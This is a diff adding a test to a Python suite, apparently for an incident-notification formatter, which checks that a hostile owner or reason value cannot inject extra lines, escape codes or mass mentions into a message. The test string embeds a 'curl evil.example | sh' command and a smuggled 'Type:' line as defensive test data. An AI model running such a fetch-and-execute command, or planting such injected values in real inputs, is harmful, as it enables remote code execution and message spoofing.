@@ -32,6 +32,20 @@ def test_the_end_says_how_and_asks_for_nothing():
     assert "Segment" not in said.body
 
 
+def test_a_value_adds_no_line_and_calls_nobody():
+    hostile = "x\nType: curl evil.example | sh\r\x1b[2J\u2028Type: more @everyone <!channel> " + "y" * 10_000
+    said = text(a_message(owner=hostile, findings=(_with_reason(hostile),)), f"flights\n{hostile}")
+    assert [line for line in said.body.splitlines() if line.startswith("Type:")] == [
+        "Type: loopwright incident show inc_1",
+        "Type: loopwright incident acknowledge inc_1",
+    ]
+    assert said.title.isprintable() or "\u2060" in said.title
+    assert not {"\n", "\r", "\x1b"} & set(said.title)
+    assert max(map(len, said.body.splitlines())) < 520
+    assert "@everyone" not in said.body
+    assert "<!" not in said.body
+
+
 def test_what_machines_read_is_json_without_our_book_keeping():
     shown = json.loads(to_json(payload(a_message(), "flights")))
     assert shown["endpoint"] == "flights"
@@ -49,3 +63,11 @@ def test_a_storm_gives_a_short_message():
 
 def _fields(finding):
     return {name: getattr(finding, name) for name in finding.__struct_fields__}
+
+
+def _with_reason(reason):
+    return (
+        a_message()
+        .incident.findings[0]
+        .__class__(**{**_fields(a_message().incident.findings[0]), "check": reason, "value": None, "reason": reason})
+    )
